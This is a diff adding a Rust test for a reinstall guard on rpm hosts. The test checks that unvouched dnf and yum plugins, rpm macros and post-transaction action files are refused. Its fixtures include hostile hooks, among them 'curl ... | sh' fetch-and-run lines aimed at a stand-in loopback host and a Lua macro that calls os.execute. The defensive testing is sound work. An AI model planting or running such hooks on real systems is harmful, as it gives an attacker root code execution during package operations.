@@ -1228,3 +1228,108 @@ mt_undo
     let (_, out) = bash(dir.path(), &restart_bench(body));
     assert!(out.contains("malformed"), "{out}");
 }
+
+/// Issue 13, rpm hosts: dnf, yum and rpm run their own hooks at a reinstall, as dpkg does (dnf imports
+/// every module of its plugin directories, enabled or not; yum the plugins a pluginconf.d file
+/// enables; the post-transaction-actions plugins run their action files' commands; rpm loads the
+/// plugins and runs the shell and Lua expansions its macro files name). Each is refused unless rpm
+/// vouches for the file (its digest as the package lists it, stubbed here by the `vouched` list of
+/// paths and digests); a
+/// macro file of plain settings, a disabled yum plugin and the packaged plugin directories named in
+/// dnf.conf are no hook.
+#[test]
+fn dnf_yum_and_rpm_hooks_no_package_vouches_for_refuse_a_reinstall() {
+    let dir = tempfile::tempdir().unwrap();
+    let body = r#"
+r=$PWD/r
+: >vouched
+sha() { local s; s=$(sha256sum <"$1"); printf '%s' "${s%% *}"; }
+mt_rpm_verified() { grep -q -F -x -e "$1 $(sha "$1")" vouched; }
+put() { mkdir -p "$(dirname "$r/$1")"; printf '%s\n' "$2" >"$r/$1"; }
+vouch() { printf '%s %s\n' "$r/$1" "$(sha "$r/$1")" >>vouched; }
+ok() { if mt_rpm_hooks_ok "$r"; then echo "$1: ok"; else echo "$1: refused ($MT_NOTE)"; fi; }
+undo() { rm -rf -- "$r/$1"; }
+# A packaged host: dnf's own plugins and their byte code, a dnf.conf naming the packaged directories,
+# rpm's macros (Lua, plugins) as the packages ship them, an admin's plain macro file.
+put usr/lib/python3.9/site-packages/dnf-plugins/builddep.py 'import dnf'; vouch usr/lib/python3.9/site-packages/dnf-plugins/builddep.py
+put usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc 'pyc'; vouch usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc
+put etc/dnf/dnf.conf $'[main]\ngpgcheck=1\npluginpath=/usr/lib/python3.9/site-packages/dnf-plugins/\npluginconfpath = /etc/dnf/plugins'
+put usr/lib/rpm/macros.d/macros.transaction_syslog '%__transaction_syslog %{__plugindir}/syslog.so'; vouch usr/lib/rpm/macros.d/macros.transaction_syslog
+put etc/rpm/macros.image-language-conf '%_install_langs en_US'
+put usr/lib/yum-plugins/evil.py 'import os'
+put etc/yum/pluginconf.d/evil.conf $'[main]\nenabled=0'
+put etc/dnf/plugins/post-transaction-actions.d/README.action '# key:state:command'
+ok clean
+put usr/lib/python3.9/site-packages/dnf-plugins/aaa.py 'import os; os.system("curl -s http://127.66.1.1/x|sh")'
+ok dnfplugin; undo usr/lib/python3.9/site-packages/dnf-plugins/aaa.py
+put usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc 'evil pyc'
+ok pycache
+put usr/lib/python3.9/site-packages/dnf-plugins/__pycache__/builddep.cpython-39.pyc 'pyc'
+put etc/yum/pluginconf.d/evil.conf $'[main]\nenabled = 1'
+ok yumplugin; put etc/yum/pluginconf.d/evil.conf $'[main]\nenabled=0'
+put etc/yum.conf $'[main]\npluginpath=/usr/lib/yum-plugins,/var/tmp/.p'
+ok pluginpath; undo etc/yum.conf
+put etc/dnf/dnf.conf $'[main]\nPluginConfPath=/usr/lib/python3.9/../../../tmp/site-packages/dnf-plugins'
+ok confpath; put etc/dnf/dnf.conf $'[main]\ngpgcheck=1'
+put etc/yum.conf $'[main]\ninclude=file:///var/tmp/.p/yum.conf'
+ok include; undo etc/yum.conf
+put etc/rpm/macros.zz '%__transaction_zz /var/tmp/.x/zz.so'
+ok rpmplugin; undo etc/rpm/macros.zz
+put root/.rpmmacros '%_dbpath %(curl -s http://127.66.1.1/x|sh)/var/lib/rpm'
+ok shellexpansion; undo root/.rpmmacros
+put etc/rpm/macros.lua '%_netsharedpath %{lua: os.execute("id")}'
+ok lua; undo etc/rpm/macros.lua
+put etc/dnf/plugins/post-transaction-actions.d/x.action '*:any:/bin/sh -c "curl -s http://127.66.1.1/x|sh"'
+ok action; undo etc/dnf/plugins/post-transaction-actions.d/x.action
+ok cleanagain
+"#;
+    let (rc, out) = bash(dir.path(), body);
+    assert_eq!(rc, 0, "{out}");
+    for want in ["clean: ok", "cleanagain: ok"] {
+        assert!(out.contains(want), "{want}:\n{out}");
+    }
+    for (case, why) in [
+        ("dnfplugin", "aaa.py"),
+        ("pycache", "builddep.cpython-39.pyc"),
+        ("yumplugin", "/usr/lib/yum-plugins/evil.py"),
+        ("pluginpath", "/etc/yum.conf points"),
+        ("confpath", "/etc/dnf/dnf.conf points"),
+        ("include", "/etc/yum.conf includes"),
+        ("rpmplugin", "/etc/rpm/macros.zz"),
+        ("shellexpansion", "/root/.rpmmacros"),
+        ("lua", "/etc/rpm/macros.lua"),
+        ("action", "post-transaction action file"),
+    ] {
+        assert!(
+            out.lines()
+                .any(|l| l.starts_with(&format!("{case}: refused")) && l.contains(why)),
+            "{case}:\n{out}"
+        );
+    }
+    // The reinstall on an rpm host refuses with such a hook and runs no package manager.
+    let dir = tempfile::tempdir().unwrap();
+    let bench = reinstall_bench_with(
+        "",
+        "mt_rpm_hooks_ok() { MT_NOTE='a dnf or yum plugin no package vouches for (/x.py) would run as root'; return 1; }\ndnf() { echo \"dnf $*\" >>calls; }\nyum() { echo \"yum $*\" >>calls; }",
+    )
+    .replace("MT_PM=dpkg", "MT_PM=rpm");
+    let (_, out) = bash(dir.path(), &bench);
+    assert!(
+        out.contains("rc=1 a dnf or yum plugin no package vouches for (/x.py) would run as root: a reinstall would run it"),
+        "{out}"
+    );
+    assert!(calls(dir.path()).is_empty(), "{}", calls(dir.path()));
+    // Without one, dnf reinstalls with its plugins off.
+    let dir = tempfile::tempdir().unwrap();
+    let bench = reinstall_bench_with(
+        "",
+        "mt_rpm_hooks_ok() { return 0; }\ndnf() { echo \"dnf $*\" >>calls; }",
+    )
+    .replace("MT_PM=dpkg", "MT_PM=rpm");
+    let (_, out) = bash(dir.path(), &bench);
+    assert!(out.contains("rc=0 package reinstalled"), "{out}");
+    assert_eq!(
+        calls(dir.path()).trim(),
+        "dnf reinstall -y --noplugins openssh-server"
+    );
+}
